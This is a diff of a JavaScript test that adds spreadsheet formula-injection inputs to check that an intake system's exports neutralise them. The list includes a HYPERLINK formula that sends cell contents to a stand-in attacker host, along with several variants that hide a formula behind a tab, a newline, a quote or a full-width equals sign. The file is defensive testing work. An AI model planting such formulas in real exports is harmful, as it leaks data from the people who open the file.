@@ -39,7 +39,21 @@ test('a file of the machine, memory without end, or rows without end', async () 
 
 test('a formula in what the office takes out, by what students write', async () => {
   const { context, office, batch } = await makeIntakeDesk();
-  const formulas = ['=HYPERLINK("http://evil.test?"&A1)', '+1+1', '@SUM(A1)', '-2+3', '\t=1', '＝1+1'];
+  const formulas = [
+    '=HYPERLINK("http://evil.test?"&A1)',
+    '+1+1',
+    '@SUM(A1)',
+    '-2+3',
+    '\t=1',
+    '＝1+1',
+    'x;=1+1',
+    'x\t+1',
+    'x|"@SUM(A1)',
+    ' =1',
+    '\n=1',
+    '"=1',
+    'x\n-1',
+  ];
   for (const text of formulas) {
     const { id } = await buildStudent(context, {
       batch_id: batch.id,
